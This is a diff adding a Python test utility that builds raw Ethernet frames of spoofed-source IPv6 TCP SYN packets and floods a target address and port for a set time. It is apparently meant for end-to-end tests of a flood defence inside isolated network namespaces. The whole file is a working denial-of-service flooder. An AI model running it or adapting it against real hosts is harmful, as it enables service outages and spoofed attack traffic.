@@ -1,0 +1,83 @@
+#!/usr/bin/env python3
+"""synflood6.py — a spoofed-source IPv6 SYN flood for the e2e tests (hping3 has no IPv6).
+
+  synflood6.py IFACE --dst ADDR --dst-mac MAC --dport PORT --seconds S [--count N]
+               [--src-prefix PREFIX] [--frames K]
+
+Builds K Ethernet frames up front, each a bare TCP SYN (no options, as
+hping3 -S sends) to ADDR:PORT from a random address inside PREFIX and a random
+port, with a right checksum, then sends them round and round through an
+AF_PACKET socket on IFACE until S seconds or N frames, whichever comes first:
+a stateless defender cannot tell a cycle of K sources from a fresh random one
+each time, and the sending loop stays a bare send(). Prints "sent N frames in
+S s (R/s)". Run only inside a test's own namespaces (lib.sh's flood_start).
+"""
+import argparse
+import errno
+import ipaddress
+import random
+import socket
+import struct
+import sys
+import time
+
+from craft import csum, mac_bytes
+
+ETH_P_IPV6 = 0x86DD
+SYN = 0x02
+
+
+def syn_frame(a, src_mac, src, sport):
+    # Bare 20-byte header, window 64240: what hping3 -S sends, over IPv6.
+    tcp = struct.pack("!HHIIBBHHH", sport, a.dport, random.getrandbits(32), 0, 5 << 4, SYN, 64240, 0, 0)
+    pseudo = src.packed + a.dst.packed + struct.pack("!IxxxB", len(tcp), socket.IPPROTO_TCP)
+    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+    ip6 = struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + src.packed + a.dst.packed
+    return mac_bytes(a.dst_mac) + src_mac + struct.pack("!H", ETH_P_IPV6) + ip6 + tcp
+
+
+def random_host(net):
+    return net[random.getrandbits(net.max_prefixlen - net.prefixlen)]
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    p.add_argument("iface")
+    p.add_argument("--dst", required=True, type=ipaddress.IPv6Address)
+    p.add_argument("--dst-mac", required=True)
+    p.add_argument("--dport", required=True, type=int)
+    p.add_argument("--seconds", required=True, type=float)
+    p.add_argument("--count", type=int, default=10_000_000)
+    p.add_argument("--src-prefix", type=ipaddress.IPv6Network, default=ipaddress.IPv6Network("2001:db8::/32"))
+    p.add_argument("--frames", type=int, default=4096)
+    a = p.parse_args()
+
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
+    sock.bind((a.iface, 0))
+    src_mac = sock.getsockname()[4]
+    frames = [syn_frame(a, src_mac, random_host(a.src_prefix), random.randint(1024, 65535))
+              for _ in range(a.frames)]
+
+    send, sent, refused = sock.send, 0, 0
+    t0 = time.monotonic()
+    deadline = t0 + a.seconds
+    try:
+        while sent + refused < a.count and time.monotonic() < deadline:
+            # A batch between clock reads; the count bound is exact.
+            for f in frames[: a.count - sent - refused]:
+                try:
+                    send(f)
+                    sent += 1
+                except OSError as e:  # the peer's backlog is full: a drop on the wire
+                    if e.errno != errno.ENOBUFS:
+                        raise
+                    refused += 1
+    except KeyboardInterrupt:  # timeout -s INT, as for hping3
+        pass
+    dt = time.monotonic() - t0
+    print(f"sent {sent} frames in {dt:.1f} s ({sent / dt:.0f}/s), {refused} refused (ENOBUFS)")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
